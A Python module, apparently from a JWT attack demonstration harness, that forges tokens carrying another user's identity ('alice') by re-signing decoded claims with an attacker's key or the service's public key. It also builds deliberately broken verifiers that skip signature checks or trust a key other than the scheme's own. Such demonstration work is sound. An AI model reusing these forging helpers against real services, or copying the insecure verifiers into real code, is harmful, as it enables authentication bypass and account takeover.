"""What forgers of JWTs do, and what broken verifiers have in common.

A forger writes Alice's claims into a token of her own.  A broken verifier
reads the token's header before anything vouches for it, or checks the
signature by a key that the token chose.
"""

import hmac
import json
from base64 import urlsafe_b64decode
from dataclasses import replace
from typing import Any

import jwt

from demo.attacks.base import Attacker, scheme_of, with_token
from demo.errors import BadSignature
from demo.harness import Client, NotApplicable
from demo.keys import Key, key_for
from demo.schemes import JWT

ASYMMETRIC = ("RS256", "ES256", "EdDSA")
"""Algorithms whose key has a half that is published."""

# What a forger does


def jwt_scheme(attacker: Attacker) -> JWT:
    """Raises NotApplicable when the target issues no JWT."""
    return scheme_of(attacker, JWT, "a JWT")


def alices_claims(attacker: Attacker) -> dict[str, Any]:
    """Mallory's own claims, which she reads without a key, with Alice's
    name in them.  Raises NotApplicable when there is no JWT."""
    jwt_scheme(attacker)
    payload = attacker.me.credential().split(".")[1]
    claims = json.loads(urlsafe_b64decode(payload + "=="))
    return {**claims, "sub": "alice"}


def header(attacker: Attacker, **more: Any) -> dict[str, Any]:
    """The header of a token for this bank, with more in it.  What kind of
    token the bank wants is said in Mallory's own."""
    return {"typ": unverified(attacker.me.credential(), "typ"), **more}


def signed_by(attacker: Attacker, key: Key, **more: Any) -> Client:
    """Mallory's machine with Alice's claims, signed by this key, and with
    more in the header."""
    claims = alices_claims(attacker)
    token = jwt.encode(
        claims, key.signing, key.algorithm, headers=header(attacker, **more)
    )
    return with_token(attacker, token)


def own_key(attacker: Attacker) -> Key:
    """A key of Mallory's own, for the algorithm that the bank uses."""
    jwt_scheme(attacker)
    return key_for(attacker.service.contender.algorithm, "mallory")


def public_key(attacker: Attacker) -> Key:
    """What the service publishes.  Raises NotApplicable when it publishes
    nothing, because it has no key or only a secret."""
    used = attacker.service.contender
    if not used.algorithm:
        raise NotApplicable("no public key to sign with")
    key = (used.key or attacker.service.key(used.algorithm)).public()
    if key is None:
        raise NotApplicable("no public key to sign with")
    return key


# What broken verifiers are made of


def unverified(token: str, what: str) -> Any:
    """One entry of the token's header, for which nothing vouches yet;
    None if there is no such entry."""
    return jwt.get_unverified_header(token).get(what)


def unsigned(scheme: JWT, token: str) -> dict[str, Any]:
    """Header and payload.  PyJWT checks every claim, and no signature."""
    return jwt.decode_complete(
        token,
        issuer=scheme.issuer,
        audience=scheme.audience,
        options={
            "verify_signature": False,
            "verify_exp": True,
            "verify_nbf": True,
            "verify_iat": True,
            "verify_aud": True,
            "verify_iss": True,
            "require": list(scheme.required),
        },
    )


def by_secret(scheme: JWT, secret: bytes, token: str) -> dict[str, Any]:
    """Header and payload, if this secret made the token's HMAC.  Raises
    BadSignature."""
    signed, _, signature = token.rpartition(".")
    expected = hmac.digest(secret, signed.encode(), "sha256")
    sent = jwt.utils.base64url_decode(signature)
    if not hmac.compare_digest(expected, sent):
        raise BadSignature("the HMAC differs")
    return unsigned(scheme, token)


def by_key(scheme: JWT, verifying: Any, token: str) -> dict[str, Any]:
    """Header and payload, verified by this key, not by the scheme's own."""
    key = Key(scheme.key.algorithm, "", None, verifying)
    return JWT.decode(replace(scheme, key=key), token)
